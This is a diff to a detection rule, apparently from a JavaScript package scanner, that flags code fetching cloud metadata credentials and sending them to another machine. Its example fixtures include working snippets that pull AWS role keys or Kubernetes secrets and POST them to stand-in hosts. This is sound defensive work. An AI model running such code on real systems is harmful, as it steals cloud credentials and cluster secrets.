@@ -1,4 +1,5 @@
-import { defineRule, sinkSays, step } from '../src/define.js';
+import { defineRule, fixedTargetOf, sinkSays, step, stepsOf } from '../src/define.js';
+import type { Call, FileContext, Label } from '../src/types.js';
 import { METADATA_SERVICE } from '../src/vocabulary/services.js';
 
 export default defineRule({
@@ -6,8 +7,11 @@ export default defineRule({
     summary: 'Asks the cloud’s metadata service, which hands out credentials',
     why: 'Any program on a cloud machine can ask this address for the machine’s own credentials, and worms do (2025). Libraries of cloud providers ask it as their purpose, with an interface of their own; the contact weighs what it does because so few others do.',
     behaviour: 'theft',
-    messages: { asks: 'Asks the cloud’s metadata service with {sink}' },
-    bits: { asks: 4 },
+    messages: {
+      asks: 'Asks the cloud’s metadata service with {sink}',
+      sends: 'Asks the cloud for its credentials, and sends the answer to another machine with {sink}',
+    },
+    bits: { asks: 4, sends: 13.5 },
   },
   examples: {
     flags: [
@@ -19,8 +23,20 @@ export default defineRule({
         title: 'a token is asked for by name',
         code: `require('http').get({ host: 'metadata.google.internal', path: '/computeMetadata/v1/instance/service-accounts/default/token', headers: { 'Metadata-Flavor': 'Google' } }, use);`,
       },
+      {
+        title: 'what the service of a machine’s role answers is sent on',
+        code: `(async () => {\n  const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n  const role = await (await fetch(base)).text();\n  const keys = await (await fetch(base + role)).text();\n  await fetch('https://region.castle.invalid/c', { method: 'POST', body: keys });\n})();`,
+      },
+      {
+        title: 'all secrets of a cluster are asked for, and sent on',
+        code: `const fs = require('fs'), https = require('https');\nconst token = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');\nhttps.get({ host: 'kubernetes.default.svc', path: '/api/v1/secrets', headers: { authorization: 'Bearer ' + token } }, answer => {\n  let text = '';\n  answer.on('data', part => { text += part; });\n  answer.on('end', () => fetch('https://probe.castle.invalid', { method: 'POST', body: text }));\n});`,
+      },
     ],
     passes: [
+      {
+        title: 'a probe asks a cluster how it is, and tells it',
+        code: `const https = require('https');\nhttps.get({ host: 'kubernetes.default.svc', path: '/healthz' }, answer => answer.on('data', text => fetch('https://status.castle.invalid', { method: 'POST', body: String(text) })));`,
+      },
       {
         title: 'requests to it are refused',
         code: `const BLOCKED = ['169.254.169.254', 'metadata.google.internal'];\nmodule.exports = url => {\n  if (BLOCKED.includes(new URL(url).hostname)) throw new Error('refused');\n  return fetch(url);\n};`,
@@ -32,15 +48,37 @@ export default defineRule({
     ],
   },
   file(context) {
+    const asking = context.calls('network').filter(call => {
+      const texts = call.args.flatMap(arg => context.textsWithin(arg));
+      return texts.some(text => METADATA_SERVICE.test(text)) || (texts.some(isCluster) && texts.some(asksForSecrets));
+    });
+    const [first] = asking;
+    if (!first) return;
     for (const call of context.calls('network')) {
-      const asks = call.args.some(arg => context.textsWithin(arg).some(text => METADATA_SERVICE.test(text)));
-      if (!asks) continue;
+      const answer = asking.includes(call) ? undefined : answerIn(context, call, asking);
+      if (!answer || fixedTargetOf(context, call) === undefined) continue;
       context.report({
-        messageId: 'asks',
+        messageId: 'sends',
         data: { sink: call.name },
-        chain: [step('sink', sinkSays(call), context.file, call.node)],
+        chain: [...stepsOf(answer), step('sink', sinkSays(call), context.file, call.node)],
       });
       return;
     }
+    if (!first.args.some(arg => context.textsWithin(arg).some(text => METADATA_SERVICE.test(text)))) return;
+    context.report({
+      messageId: 'asks',
+      data: { sink: first.name },
+      chain: [step('sink', sinkSays(first), context.file, first.node)],
+    });
   },
 });
+
+const isCluster = (text: string): boolean => /^(?:https:\/\/)?kubernetes\.default(?:\.svc)?\b/.test(text);
+const asksForSecrets = (text: string): boolean => /\/api\/v1\/(?:\S{1,100}\/)?secrets\b/.test(text);
+
+/** What the service answered, among what a call sends; what says who is asking there goes back to the cloud. */
+function answerIn({ labelsOf }: FileContext, { args }: Call, asking: readonly Call[]): Label | undefined {
+  return args
+    .flatMap(arg => labelsOf(arg))
+    .find(({ kind, origin }) => kind === 'remote' && asking.some(({ node }) => node === origin.node));
+}
